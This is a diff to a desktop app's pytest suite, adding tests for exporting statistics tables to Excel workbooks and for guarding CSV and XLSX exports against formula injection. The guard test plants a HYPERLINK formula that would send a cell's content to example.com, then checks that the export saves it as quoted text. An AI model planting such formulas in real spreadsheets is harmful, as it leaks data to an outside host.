@@ -20,7 +20,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from PySide6.QtWidgets import QTableWidget
+from PySide6.QtWidgets import QPushButton, QTableWidget
 from pytestqt.qtbot import QtBot
 from sqlalchemy import Connection
 
@@ -38,7 +38,7 @@ from desktop.ui.labels import status_label
 from desktop.ui.main_window import MainWindow
 from desktop.ui.ops import Ops
 from desktop.ui.stats.requests import Figures, Wanted
-from desktop.ui.stats.tables import shown_rows
+from desktop.ui.stats.tables import number, shown_rows
 from desktop.ui.stats.window import StatsWindow
 from tests.reports.helpers import received_at, walk
 from tests.store.helpers import add_officer_without_login
@@ -258,6 +258,61 @@ def test_a_table_is_saved_to_csv_as_it_is_shown(qtbot: QtBot, adi: Session, ops:
         assert window.exported == table.rowCount()
     window.export_to(window.backlog_table, tmp_path / "no-such-folder" / "x.csv")
     assert window.failed and "could not be written" in window.status.text()
+
+
+def test_every_table_is_saved_to_a_workbook_with_its_figures_as_numbers(
+    qtbot: QtBot, adi: Session, ops: Ops, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    window = opened(qtbot, adi, ops)
+    march(qtbot, window)
+    behaviour = window.behaviour
+    buttons = ["statsBacklogExport", "statsServiceExport", "statsVolumeExport", "statsTopicsExport"]
+    buttons += ["statsHeatExport", "statsFlowsTableExport", "statsReopenTableExport", "statsReturningTableExport"]
+    for button in buttons:  # every table has its save button
+        assert window.findChild(QPushButton, button) is not None, button
+    # The backlog: its statuses as text, its counts (and their sums) as numbers.
+    target = tmp_path / "backlog.xlsx"
+    window.export_to(window.backlog_table, target)
+    assert not window.failed and window.exported == window.backlog_table.rowCount() > 1
+    sheet = load_workbook(target).active
+    assert sheet is not None
+    read = [list(row) for row in sheet.iter_rows(values_only=True)]
+    assert read[0][0] == window.backlog_table.accessibleName()
+    shown = shown_rows(window.backlog_table)
+    assert [str(h or "") for h in read[1]] == shown[0]
+    for cells, texts in zip(read[2:], shown[1:], strict=True):
+        assert cells[0] == texts[0]
+        for value, text in zip(cells[1:], texts[1:], strict=True):
+            assert (value is None and text in ("", "–")) or (isinstance(value, int) and number(value) == text)
+    # The heat map keeps its weekdays as the first column.
+    window.export_to(behaviour.heatmap, tmp_path / "heat.xlsx")
+    heat = load_workbook(tmp_path / "heat.xlsx").active
+    assert heat is not None
+    weekdays = [row[0] for row in heat.iter_rows(min_row=3, values_only=True)]
+    assert weekdays == [behaviour.heatmap.verticalHeaderItem(r).text() for r in range(7)]  # type: ignore[union-attr]
+
+
+def test_a_cell_a_spreadsheet_would_take_for_a_formula_is_saved_as_text(
+    qtbot: QtBot, adi: Session, ops: Ops, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    window = opened(qtbot, adi, ops)
+    march(qtbot, window)
+    table = window.backlog_table
+    cell = table.item(0, 0)
+    assert cell is not None
+    cell.setText('=HYPERLINK("http://example.com/?"&A2)')
+    window.export_to(table, tmp_path / "x.csv")
+    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as read:
+        assert list(csv.reader(read))[1][0] == "'" + cell.text()
+    window.export_to(table, tmp_path / "x.xlsx")
+    sheet = load_workbook(tmp_path / "x.xlsx").active
+    assert sheet is not None
+    written = sheet.cell(row=3, column=1)
+    assert written.data_type == "s" and written.value == cell.text() and written.quotePrefix
 
 
 def test_an_officer_gets_the_figures_of_the_reports_they_handled(
